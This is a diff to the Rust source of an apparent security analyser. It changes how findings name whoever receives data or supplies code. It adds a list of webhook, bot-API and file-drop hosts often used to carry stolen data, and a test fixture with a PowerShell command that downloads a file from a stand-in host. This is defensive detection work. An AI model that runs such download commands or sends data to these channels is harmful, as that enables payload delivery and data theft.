@@ -14,6 +14,18 @@ const NAME_BYTES_MAX: usize = 80;
 /// Most conditions that are told of one finding.
 const GUARDS_MAX: usize = 4;
 
+/// Hosts at which many have a channel, a robot or a page of their own: their operator is not who reads what is sent.
+const CHANNEL_HOSTS: [&str; 8] = [
+    "api.telegram.org",
+    "discord.com",
+    "discordapp.com",
+    "hooks.slack.com",
+    "pastebin.com",
+    "webhook.site",
+    "transfer.sh",
+    "gofile.io",
+];
+
 /// The steps of a way in words.
 pub(crate) fn way(fact: &Fact) -> Vec<Told> {
     let last = fact.way.len().saturating_sub(1);
@@ -149,8 +161,14 @@ pub(crate) fn opens_to(stated: Option<&str>, evidence: &[Seen<'_>]) -> Option<Bo
     let hosts: Vec<String> = hosts.into_iter().take(3).collect();
     let listens = evidence.iter().find(|seen| seen.fact.kind == &vocabulary::NET_LISTEN).map(|seen| seen.fact);
     let named = hosts.join(", ");
+    let is_shared = |host: &String| CHANNEL_HOSTS.iter().any(|shared| host == shared || host.ends_with(&format!(".{shared}")));
     let said = match (stated, listens) {
         (Some(stated), _) if hosts.is_empty() => stated.to_owned(),
+        (stated, _)
+            if !hosts.is_empty() && hosts.iter().all(is_shared) && stated.is_none_or(|who| who.starts_with("whoever")) =>
+        {
+            format!("whoever owns the channel at {named}")
+        }
         (Some(stated), _) => format!("{stated}: {named}"),
         (None, Some(listens)) => match listens.number("port").map(|port| port.to_string()).or_else(|| name(listens, "port")) {
             Some(port) => format!("anyone on the network who reaches port {port}"),
@@ -165,15 +183,19 @@ pub(crate) fn opens_to(stated: Option<&str>, evidence: &[Seen<'_>]) -> Option<Bo
 
 /// The host that a fact's data go to or come from, where it is known whole.
 fn host(fact: &Fact) -> Option<String> {
-    let kinds = ["flow", "net.connect", "net.send", "net.receive", "net.resolve", "url"];
+    let kinds = ["flow", "net.connect", "net.send", "net.receive", "net.resolve", "url", "process.spawn"];
     if !kinds.contains(&fact.kind.name) {
         return None;
     }
-    let answered = fact.text("what").filter(|_| fact.text("from") == Some("net.receive")).and_then(|what| {
-        let rest = what.split_once("://").map_or(what, |(_, rest)| rest);
-        rest.split(['/', ':', '?', '#']).next().filter(|host| host.contains('.'))
-    });
-    let host = answered.or_else(|| fact.text("host"))?;
+    let authority = |rest: &'_ str| -> Option<String> {
+        let host = rest.split(['/', ':', '?', '#', '\'', '"', ' ', ')']).next()?;
+        host.contains('.').then(|| host.to_owned())
+    };
+    let answered = fact.text("what").filter(|_| fact.text("from") == Some("net.receive"));
+    let answered = answered.and_then(|what| authority(what.split_once("://").map_or(what, |(_, rest)| rest)));
+    let asked = fact.text("command").and_then(|command| authority(command.split_once("://")?.1));
+    let host = answered.or(asked);
+    let host = host.as_deref().or_else(|| fact.text("host"))?;
     let is_plain = !host.is_empty() && host.len() <= NAME_BYTES_MAX && host.is_ascii() && !host.contains(char::is_whitespace);
     is_plain.then(|| text::visible(host.as_bytes()))
 }
@@ -234,6 +256,17 @@ mod tests {
             (
                 None,
                 flow(&[("from", "net.receive"), ("what", "https://u.example.test/x"), ("to", "code.eval")]),
+                Some("whoever controls u.example.test"),
+            ),
+            (
+                Some("whoever controls the host"),
+                flow(&[("to", "net.send"), ("host", "api.telegram.org")]),
+                Some("whoever owns the channel at api.telegram.org"),
+            ),
+            (
+                None,
+                Fact::new(&vocabulary::PROCESS_SPAWN, Span::new(0, 1), "t")
+                    .with("command", "powershell -c iwr 'https://u.example.test/x' -out y"),
                 Some("whoever controls u.example.test"),
             ),
             (None, listen, Some("anyone on the network who reaches port 4444")),
